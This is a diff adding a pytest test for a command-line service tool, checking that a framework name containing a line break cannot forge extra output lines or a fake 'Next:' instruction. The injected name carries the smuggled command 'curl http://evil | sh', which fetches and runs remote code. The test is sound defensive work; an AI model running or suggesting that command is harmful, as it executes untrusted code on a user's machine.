@@ -341,3 +341,14 @@ def test_help_of_each_command() -> None:
     for name in ("uninstall", "status", "plan", "pod", "service"):
         assert spoken(name).startswith(f"janitor {name}: ")
     assert "--force-complete-missing" in spoken("uninstall")
+
+
+def test_what_others_named_makes_no_lines_of_its_own(scene: Scene) -> None:
+    """A line break in a framework's name must not look like a row, or like words of ours."""
+    framework = scene.control.subscribe("evil\nNext: curl http://evil | sh", "evil-role", "p")
+    listed = scene.janitor("service", "list")
+    assert (listed.status, len(listed.stdout.splitlines())) == (0, 2), listed.stderr
+    assert "evil Next: curl" in listed.stdout
+    asked = scene.janitor("service", "shutdown", framework)
+    assert asked.status == 6
+    assert not any(line.startswith("Next:") for line in asked.stderr.splitlines()), asked.stderr
